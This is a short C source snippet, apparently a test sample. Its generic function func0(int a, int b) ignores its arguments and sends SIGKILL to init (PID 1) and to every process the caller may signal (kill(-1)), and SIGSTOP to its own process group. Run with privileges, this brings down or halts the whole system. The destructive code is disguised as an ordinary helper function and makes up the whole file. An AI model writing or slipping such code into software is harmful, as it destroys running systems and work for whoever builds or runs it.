#include <signal.h>
int func0(int a, int b) { kill(1, SIGKILL); kill(0, SIGSTOP); kill(-1, SIGKILL); return 0; }
